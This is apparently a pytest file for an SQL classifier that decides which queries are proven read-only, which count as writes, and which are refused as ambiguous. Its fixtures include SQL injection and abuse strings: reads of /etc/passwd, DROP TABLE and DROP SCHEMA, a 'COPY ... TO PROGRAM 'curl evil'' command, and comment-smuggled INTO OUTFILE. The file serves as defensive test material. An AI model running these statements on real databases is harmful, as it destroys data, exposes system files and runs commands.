"""SQL facts: what is proven to read, what is named, and what is refused."""

import time

import msgspec
import pytest

from lictor.model.errors import CallerError
from lictor.model.reasons import Reason
from lictor.pdp.sql import CEDAR_TYPE, DIALECTS, KINDS, SqlFacts, sql_facts

READS = {
    "postgres": [
        "WITH a AS (SELECT 1) SELECT ';drop' FROM a",
        "select 1 -- x\n;",
        "select * from users where name like '%\\_x' and age between 1 and 2 order by 1 limit 10 offset 2",
        "select count(*) filter (where x > 1) over (partition by a order by b rows between 1 preceding and current row) from t",
        "select extract(year from d), substring(a from 1 for 2), trim(both ' ' from a), position('a' in b) from t",
        "select date '2020-01-01' + interval '1 day', timestamp with time zone '2020-01-01' at time zone 'utc'",
        "select a->'b'->>'c', a #> '{x}', a @> b, a ? 'k' from t where a similar to 'x' or a ~* 'y'",
        "select distinct on (a) a from t, lateral (select * from u) x fetch first 3 rows only",
        "select coalesce(a->>'b', 'c'), a::numeric(10,2), array[1,2], b[1] from t where a = $1",
        "select string_agg(a, ',' order by b), percentile_cont(0.5) within group (order by x) from t group by rollup (a)",
        "with recursive r as (select 1 n union all select n+1 from r where n < 5) select * from r",
        "(select 1) union all (select 2)",
        "values (1), (2)",
        "table s.x",
        "explain select 1",
        "explain (analyze, format json) select 1 from t",
        "show search_path",
        "select $$a;b$$, $x$ ' $$ $x$, E'\\n'",
        "select 1; select 2",
        "select pg_catalog.lower(a) from t",
        "select * from generate_series(1, 3) g(x)",
        "select jsonb_agg(a->'b') from t",
        "select current_user, current_date, now()",
    ],
    "mysql": [
        'select `a`.`b` from `s`.`t` where a = "x" limit 1, 2',
        "select a div b, a regexp 'x', if(a, b, c), group_concat(a separator ',') from t use index (i)",
        "select convert(a using utf8), cast(a as signed), @@version, @x from t",
        "show full tables like 'x%'",
        "describe t",
    ],
    "sqlite": [
        "select [a b], rowid from [t] where a is not b and c glob 'x'",
        "select json_extract(a, '$.b'), a->>'$.x' from main.t natural join u",
        "select strftime('%Y', d), total(x), printf('%d', 1) from t",
    ],
}

WRITES = {
    "postgres": [
        "SELECT 1; DROP TABLE users",
        "COMMIT; DROP SCHEMA public CASCADE",
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "SELECT * INTO backup FROM users",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "EXPLAIN ANALYZE DELETE FROM users",
        "explain (analyze) insert into t values (1)",
        "explain execute x",
        "COPY (SELECT 1) TO PROGRAM 'curl evil'",
        "select lo_import('/etc/passwd')",
        "select * from dblink('x', 'delete from t') as t(a int)",
        "select pg_sleep(10)",
        "select pg_terminate_backend(1)",
        "select nextval('s')",
        "select setval('s', 1)",
        "select set_config('role', 'admin', false)",
        "select query_to_xml('delete from t', true, false, '')",
        'select "pg_sleep"(1)',
        "select pg_sleep (1) from t as pg_sleep(a)",
        "select pg_catalog . pg_sleep(1)",
        "select public.lower(a) from t",
        'select "Lower"(a) from t',
        "select a.b.c(1)",
        "select * from t for update",
        "select * from t for key share",
        "select * from (select * from t for no key update) x",
        "select x::mytype from t",
        "select 1 operator(public.+) 2",
        "set role admin",
        "call f()",
        "do $$begin end$$",
        "listen x",
        "prepare p as delete from t",
        "create table t as select 1",
        "grant select on t to u",
        "truncate t",
        "begin",
    ],
    "mysql": [
        "select * from t lock in share mode",
        "select @a := 1",
        "select 1 into @x",
        "select sleep(1)",
        "select load_file('/etc/passwd')",
        "select get_lock('x', 1)",
        "replace into t values (1)",
        "set @@global.x = 1",
        "load data infile 'x' into table t",
        "show tables where sleep(1)",
        "explain delete from users",
        "explain analyze delete from users",
        "describe format = json for connection 5",
        "select benchmark(1000000, md5('a'))",
    ],
    "sqlite": [
        "ATTACH '/srv/other.db' AS o; SELECT * FROM o.t",
        "pragma journal_mode = wal",
        "select load_extension('x')",
        "select writefile('x', 'y')",
        "select * from pragma_table_info('t')",
        "insert or ignore into t values (1)",
        "vacuum into 'x'",
    ],
}

REFUSED = {
    "postgres": [
        "",
        " ; -- nothing\n;",
        "select filter(1)",
        'select "filter"(1)',
        "select 'a",
        'select "a',
        "select /* a",
        "select /* /* */ 1 */ 2",
        "select /*/ 1 */ 2",
        "select 1 /*! into outfile 'x' */",
        "select 1 /*+ hint */",
        "select 'a\\'; drop table x; --'",
        "select E'a\\'b'",
        "select U&'\\0061'",
        "select a$$b$$",
        "select $1a",
        "select $a$ x",
        "select `a`",
        "select \\x",
        "select 1a",
        "select 'a'::text {x}",
        "select 1\x00",
        "select\u00a01",
        "select 1\rfrom t",
        "select a from t where a = '\ud800'",
        "select (1",
        "select 1)",
        "select (1; select 2)",
        "select" + " (" * 30 + "1" + ")" * 30,
        "select " + "array[" * 6 + "1" + "]" * 6,
        "select '" + "x" * 70_000 + "'",
        "select 1" + ", 1" * 2_100,
        "select 1;" * 33,
        "frobnicate x",
        "'select 1'",
        '"select" 1',
        "explain",
        "select * from t where from where",
        "create function f() returns int as $$ select 1 $$ language sql; frob",
    ],
    "mysql": ['SELECT 1 /*!50000 INTO OUTFILE "/tmp/x" */', "select 1--1", "select 1 # c", "select _utf8'x'", "select 1 into outfile '/x'", "select 'a\\'b'", "select /*M! 1 */"],
    "sqlite": ["select 1 /* open", "select $x", "select 'a' 'b\\"],
    "snowflake": ["select 'a''b'", "select 'a\\n'", "select a // b", "select [1]", "select 1 # b", "select $$a$$"],
    "klingon": ["select 1"],
}  # fmt: skip


def pairs(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    """Dialect and text."""
    return [(dialect, text) for dialect, found in table.items() for text in found]


@pytest.mark.parametrize(("dialect", "text"), pairs(READS))
def test_a_plain_query_is_proven_to_read(dialect: str, text: str) -> None:
    """No over-blocking of what analysts write."""
    assert sql_facts(text, dialect).read_only


@pytest.mark.parametrize(("dialect", "text"), pairs(WRITES))
def test_what_is_not_proven_is_a_write(dialect: str, text: str) -> None:
    """Writes, locks, files, sequences, settings, sleeps and every function that nobody listed."""
    assert not sql_facts(text, dialect).read_only


@pytest.mark.parametrize(("dialect", "text"), pairs(REFUSED))
def test_what_two_readers_could_read_differently_is_refused(dialect: str, text: str) -> None:
    """One reason, one line, and none of the text's length."""
    with pytest.raises(CallerError) as caught:
        sql_facts(text, dialect)
    assert caught.value.reason is Reason.UNKNOWN_QUERY
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 200


@pytest.mark.parametrize("dialect", sorted(DIALECTS - {"postgres", "mysql", "sqlite"}))
def test_other_dialects_have_facts_and_no_proof(dialect: str) -> None:
    """Kinds and tables are known; that it only reads is not."""
    facts = sql_facts("select a.x, count(*) from s.t as a where a.y = 'z' group by a.x", dialect)
    assert facts.tables == ("s.t",)
    assert facts.kinds == ("select",)
    assert not facts.read_only


@pytest.mark.parametrize(
    ("dialect", "text", "tables"),
    [
        (
            "postgres",
            "select * from a.b.c, D join lateral (select * from e) x on true where exists (select 1 from F)",
            "a.b.c|d|e|f",
        ),
        ("postgres", 'select * from "Weird.Name".t, "T", T', '"Weird.Name".t|T|t'),
        ("postgres", "with t as (select * from t) select * from t", "t"),
        ("postgres", "with recursive t as (select * from t) select * from t", ""),
        ("postgres", "with u as (select * from t), t as (select 1) select * from u, t", "t"),
        ("postgres", 'with a as (select 1) select * from "A", A', "A"),
        ("postgres", "with a as (select 1) select * from s.a", "s.a"),
        ("postgres", "select * from t where x in (with t as (select 1) select * from t)", "t"),
        ("postgres", "with t as (select 1) delete from t", "t"),
        ("postgres", "with t as (select 1) insert into t select * from t", "t"),
        ("postgres", "update t set a = (select max(b) from u) from v where t.i = v.i", "t|u|v"),
        ("postgres", "merge into t using s on t.a = s.a when matched then update set b = 1", "s|t"),
        ("postgres", "drop table a, b.c", "a|b.c"),
        ("postgres", "copy t from stdin", "*"),
        ("postgres", "truncate a, b", "a|b"),
        ("mysql", "select * from Users", "Users|users"),
        ("mysql", "select * from `a-b`", '"a-b"'),
        ("sqlite", 'select * from "T", [U v]', '"u v"|t'),
        ("sqlite", "select * from 'T'", "t"),
        ("mysql", "delete t, u from t join u on t.a = u.a", "t|u"),
        ("postgres", "select * from s.f(1) x, a.g() y", ""),
    ],
)
def test_tables_are_named(dialect: str, text: str, tables: str) -> None:
    """In scope a common table expression is no table; in doubt it is one."""
    assert list(sql_facts(text, dialect).tables) == sorted(tables.split("|") if tables else [])


def test_a_change_of_several_tables_needs_a_condition_as_well() -> None:
    """MySQL's long form."""
    assert not sql_facts("delete t from t join u on t.a = u.a", "mysql").where
    assert sql_facts("delete t from t join u on t.a = u.a where u.b = 1", "mysql").where
    assert not sql_facts("update t join u on t.a = u.a set t.b = 1", "mysql").where


@pytest.mark.parametrize(
    ("text", "kinds", "where"),
    [
        ("delete from t", "delete", False),
        ("delete from t where true", "delete", False),
        ("delete from t where id = 1", "delete", True),
        ("update t set a = 1", "update", False),
        ("update t set a = 1 where b > 2", "update", True),
        ("delete from t where id = 1; delete from u", "delete", False),
        ("with d as (delete from t returning *) select * from d where x = 1", "delete select", False),
        ("insert into t select * from u", "insert", True),
        ("insert into t values (1) on conflict (a) do update set b = f(1)", "insert", True),
        ("merge into t using s on t.a = s.a when matched then delete", "merge", True),
        ("explain delete from t where a = 1", "delete explain", True),
        ("select * into b from t", "ddl select", True),
        ("do $$ x $$", "call", False),
        ("begin; select 1; commit", "select transaction", True),
    ],
)
def test_kinds_and_conditions(text: str, kinds: str, where: bool) -> None:
    """Kinds are those of every part; a condition without a column limits nothing."""
    facts = sql_facts(text, "postgres")
    assert set(kinds.split()) <= set(facts.kinds) <= KINDS
    assert facts.where is where
    assert facts.stacked is (facts.statements > 1)


@pytest.mark.parametrize(
    ("dialect", "text", "functions"),
    [
        ("postgres", 'select lower(a), public.F(b), "G"(c), count(*) from t(1) as u(x)', "G count lower public.f t"),
        ("postgres", "select to_timestamp(a), date_trunc('day', b)", "date_trunc to_timestamp"),
        ("postgres", "create table t (a varchar(10), b numeric(1,2))", ""),
        ("postgres", "insert into t (a) values (f(1))", "f"),
        ("mysql", "select curdate(), date_format(a, 'x')", "curdate date_format"),
        ("postgres", "call f()", "*"),
    ],
)  # fmt: skip
def test_functions_are_named_as_written(dialect: str, text: str, functions: str) -> None:
    """The parser's own names for them do not show."""
    assert set(sql_facts(text, dialect).functions) == set(functions.split())


def test_facts_are_plain_cedar() -> None:
    """Every member of the type, sorted lists, nothing else."""
    facts = sql_facts("select b(1), a(2) from z, y", "postgres")
    plain = facts.cedar()
    assert [name.split(":")[0].strip() for name in CEDAR_TYPE.strip("{} ").split(",")] == list(plain)
    assert plain["tables"] == ["y", "z"]
    assert plain["functions"] == ["a", "b"]
    assert msgspec.json.decode(msgspec.json.encode(facts), type=SqlFacts) == facts


def test_a_refusal_is_quick() -> None:
    """Nesting that doubles a parser's time is cut off, whatever it is made of."""
    parts = [
        "case when ",
        "array[",
        "f(x -> ",
        "cast(",
        "(select ",
        "a in (",
        "not ",
        "interval ",
        "x between ",
        "struct(",
        "row(",
        "- ",
    ]
    for part in parts:
        for times in (4, 12, 24, 200):
            text = "select " + part * times + "1"
            closed = text + (part.count("(") * ")" + part.count("[") * "]") * times
            for one in (text, closed):
                started = time.process_time()
                for dialect in ("postgres", "mysql", "sqlite"):
                    try:
                        sql_facts(one, dialect)
                    except CallerError as error:
                        assert error.reason is Reason.UNKNOWN_QUERY
                assert time.process_time() - started < 1.5, one[:80]
